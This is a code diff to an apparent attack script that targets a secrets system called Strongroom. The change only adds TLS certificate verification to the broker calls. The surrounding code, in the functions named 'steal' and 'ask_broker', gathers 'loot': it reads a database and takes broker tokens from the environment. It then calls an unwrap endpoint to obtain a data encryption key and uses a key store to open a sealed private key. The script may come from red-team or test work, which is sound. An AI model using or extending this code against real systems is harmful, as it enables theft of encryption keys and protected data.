@@ -15,6 +15,7 @@ import base64
 import hashlib
 import json
 import os
+import ssl
 import sys
 from collections.abc import Iterator
 from dataclasses import dataclass, field
@@ -105,7 +106,7 @@ def keys_in(text: str) -> Iterator[bytes]:
             continue
 
 
-def ask_broker(loot: Loot, url: str, token: str) -> str:
+def ask_broker(loot: Loot, url: str, token: str, ca: str) -> str:
     """All that the broker answers to its token; the text of all answers."""
     now = datetime.now(UTC)
     ids = dict.fromkeys(("upload_id", "account_id", "model_id"), str(uuid4()))
@@ -121,9 +122,10 @@ def ask_broker(loot: Loot, url: str, token: str) -> str:
         "/v1/unwrap": named,
     }
     said = []
+    context = ssl.create_default_context(cafile=ca)
     for path, body in calls.items():
         headers = {"Authorization": f"Bearer {token}"}
-        answer = httpx.post(url + path, json=body, headers=headers, timeout=10)
+        answer = httpx.post(url + path, json=body, headers=headers, timeout=10, verify=context)
         loot.met_with.append(f"{path} {answer.status_code}")
         said.append(answer.text)
     return "\n".join(said)
@@ -136,7 +138,8 @@ def steal(artifact_id: str, env: dict[str, str]) -> dict[str, object]:
         read_database(loot, url)
     dek, said = None, ""
     if broker := env.get("STRONGROOM_KEYBROKER_URL"):
-        said = ask_broker(loot, broker, env.get("STRONGROOM_KEYBROKER_TOKEN", "none"))
+        token = env.get("STRONGROOM_KEYBROKER_TOKEN", "none")
+        said = ask_broker(loot, broker, token, env["STRONGROOM_KEYBROKER_CA"])
     if loot.wrapped is not None:
         if loot.sealed_private_key and KEY_STORE in env:
             dek = use_key_store(loot, env[KEY_STORE])
